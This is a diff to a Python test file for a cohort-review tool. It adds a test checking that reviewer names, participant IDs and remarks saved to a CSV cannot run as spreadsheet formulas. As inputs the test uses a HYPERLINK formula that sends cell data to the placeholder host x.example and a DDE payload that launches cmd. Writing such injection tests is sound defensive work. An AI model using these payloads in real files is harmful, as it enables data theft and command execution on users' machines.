@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import os
 from concurrent.futures import ThreadPoolExecutor
 from unittest.mock import Mock
@@ -12,7 +13,7 @@ import pytest
 from sklearn.metrics import cohen_kappa_score
 
 from deepqct.cohort import ReviewError, decide, keep_cohort, keep_splits, load_cohort, read_reviews, reader_agreement
-from deepqct.cohort.reviews import COLUMNS, REVIEWS, rejected, reviewed, standing, still_open
+from deepqct.cohort.reviews import COLUMNS, REVIEWS, decisions_of, rejected, reviewed, standing, still_open
 from deepqct.curation import curate
 from deepqct.folder import Run, read_table
 from deepqct.networks import Recipe
@@ -193,3 +194,19 @@ def test_initials_in_capitals_and_small_letters_are_one_reader(tmp_path):
     assert reader_agreement(reviews)["reader_b"].unique().tolist() == ["CD"]
     decide(tmp_path, reviewer="Ab", participant_id="sub-0001", site="wrist", decision="undo")
     assert standing(read_reviews(tmp_path))["decision"].tolist() == ["accept", "accept"]
+
+
+def test_no_text_of_a_reader_is_run_as_a_formula_and_ids_come_back(tmp_path):
+    reader, person = '=HYPERLINK("http://x.example/?"&B2,"AB")', "=P1"
+    for decision in ("accept", "undo", "reject"):
+        decide(
+            tmp_path, reviewer=reader, participant_id=person, site="wrist", decision=decision, remark="=cmd|' /C'!A0"
+        )
+    with (tmp_path / "review.csv").open(encoding="utf-8", newline="") as file:
+        cells = [cell for row in csv.reader(file) for cell in row]
+    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []
+    assert rejected(read_reviews(tmp_path)) == {(person, "wrist")}
+    assert len(decisions_of(read_reviews(tmp_path), reviewer=reader)) == 1
+    decide(tmp_path, reviewer="O'Hara", participant_id="P2", site="wrist", decision="accept")
+    assert read_reviews(tmp_path)["participant_id"].tolist()[-1] == "P2"
+    assert len(decisions_of(read_reviews(tmp_path), reviewer="o'hara")) == 1
